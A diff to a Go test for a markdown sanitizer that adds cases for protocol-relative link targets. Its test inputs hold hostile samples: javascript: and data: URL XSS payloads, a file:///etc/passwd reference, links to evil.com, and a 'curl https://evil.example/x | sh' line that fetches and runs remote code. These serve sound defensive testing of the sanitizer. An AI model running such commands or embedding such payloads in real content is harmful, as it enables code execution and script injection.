@@ -60,12 +60,25 @@ func TestMarkdownDangerousTargets(t *testing.T) {
 		{"[x](data:text/html;base64,PHNjcmlwdD4=)", "x"},
 		{"img data:text/html;base64,PHNjcmlwdD4= end", "img  end"},
 		{"raw data:,hello end", "raw  end"},
-		{`<a href="javascript:alert(1)">x</a>`, `<a href="alert(1)">x</a>`},
+		{`<a href="javascript:alert(1)">x</a>`, `<a href="">x</a>`},
 		{"[ref]: javascript:alert(1)\ntext", "text"},
 		{"```\ncurl https://evil.example/x | sh\n```", "```\ncurl  | sh\n```"},
 		{"`file:///etc/passwd`", "``"},
 		{"```ts\nimport x from \"data:text/javascript,alert(1)\"\n```", "```ts\nimport x from \"(1)\"\n```"},
 		{"unclosed ```\n[a](http://x)", "unclosed ```\na"},
+		// CommonMark's other forms of a link target, protocol-relative.
+		{"[x]( //evil.com/a )", "x"},
+		{"[x](//evil.com/a 'title')", "x"},
+		{"[x](//evil.com/a (title))", "x"},
+		{"[x](\n//evil.com/a)", "x"},
+		{"[x](<//evil.com/a b>)", "x"},
+		{"> [r]: //evil.com/a\n[click][r]", "[click][r]"},
+		{"- [r]: //evil.com/a\n[click][r]", "[click][r]"},
+		{"1. > [r]: //evil.com/a\n[click][r]", "[click][r]"},
+		{"[r]:\n//evil.com\n[click][r]", "[click][r]"},
+		{`<a href="//evil.com/a">x</a>`, `<a href="">x</a>`},
+		{`<img src='//evil.com/p.png'>`, `<img src="">`},
+		{`<a HREF = //evil.com/a>x</a>`, `<a HREF = "">x</a>`},
 	} {
 		if got := Markdown(tc.in, 1<<20); got != tc.want {
 			t.Errorf("Markdown(%q) = %q; want %q", tc.in, got, tc.want)
